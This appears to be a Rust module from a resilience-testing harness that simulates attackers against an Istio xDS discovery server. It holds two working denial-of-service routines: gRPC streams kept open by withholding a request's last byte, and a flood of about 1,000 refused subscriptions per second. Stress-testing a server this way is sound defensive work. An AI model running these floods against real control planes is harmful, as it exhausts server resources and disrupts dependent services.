//! Streams of what might be istiods: requests without an end, and streams that are refused.

use std::{convert::Infallible, io, net::SocketAddr, time::Duration};

use bytes::Bytes;
use copilot::sim::istiod::FullStream;
use futures_util::{StreamExt as _, stream};
use http_body::Frame;
use http_body_util::{BodyExt as _, StreamBody};
use hyper_util::rt::TokioIo;
use tokio::{
    task::JoinSet,
    time::{interval, sleep},
};
use tonic::{
    body::Body,
    transport::{Channel, Endpoint, Error},
};
use tower::{Service as _, ServiceExt as _};

use crate::{attackers::Tally, connections::connect};

const STREAM: &str = "http://localhost/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources";
/// Of one connection.
const STREAMS: usize = 16;
const PIECE: usize = 64 << 10;
/// Less than a request may have.
const PIECES: usize = 240;

async fn channel(from: u8, to: SocketAddr) -> Result<Channel, Error> {
    let connector = tower::service_fn(move |_: http::Uri| async move {
        Ok::<_, io::Error>(TokioIo::new(connect(from, to).await?))
    });
    let endpoint = Endpoint::from_static("http://localhost");
    endpoint.connect_with_connector(connector).await
}

/// Four addresses, with a connection each.
pub async fn unfinished(xds: SocketAddr, tally: Tally) {
    let peers: JoinSet<()> = (70..74)
        .map(|from| {
            let tally = tally.clone();
            async move {
                loop {
                    if let Ok(channel) = channel(from, xds).await {
                        let streams = (0..STREAMS).map(|_| begin(channel.clone(), &tally));
                        futures_util::future::join_all(streams).await;
                    }
                    sleep(Duration::from_millis(100)).await;
                }
            }
        })
        .collect();
    peers.join_all().await;
}

/// A request that lacks its last byte, until its stream is ended.
async fn begin(mut channel: Channel, tally: &Tally) {
    let length = u32::try_from(PIECE * PIECES + 1).unwrap_or(u32::MAX);
    let prefix = Bytes::from([&[0], &length.to_be_bytes()[..]].concat());
    let piece = Bytes::from(vec![0; PIECE]);
    let frames = std::iter::once(prefix).chain(std::iter::repeat_n(piece, PIECES));
    let frames = frames.map(|data| Ok::<_, Infallible>(Frame::data(data)));
    let body = StreamBody::new(stream::iter(frames).chain(stream::pending()));
    let request = http::Request::post(STREAM)
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(Body::new(body));
    let (Ok(request), Ok(ready)) = (request, channel.ready().await) else {
        return;
    };
    tally.count();
    if let Ok(answer) = ready.call(request).await {
        // There is no more to be done for who has been told how it ended.
        drop(answer.into_body().collect().await);
    }
}

/// 1,000 a second that ask for what nobody has.
pub async fn refused(xds: SocketAddr, tally: Tally) {
    let mut ticks = interval(Duration::from_millis(10));
    let mut asking = JoinSet::new();
    loop {
        let Ok(channel) = channel(75, xds).await else {
            ticks.tick().await;
            continue;
        };
        // As many as a connection may have calls; then another one, since this one may have been closed.
        for _ in 0..1000 {
            ticks.tick().await;
            while asking.try_join_next().is_some() {}
            for _ in asking.len()..10 {
                asking.spawn(ask(channel.clone(), tally.clone()));
            }
        }
    }
}

async fn ask(channel: Channel, tally: Tally) {
    if let Ok(mut stream) = FullStream::open(&channel).await {
        tally.count();
        stream
            .subscribe("type.googleapis.com/envoy.config.cluster.v3.Cluster")
            .await;
        // Refused.
        drop(stream.next().await);
    }
}
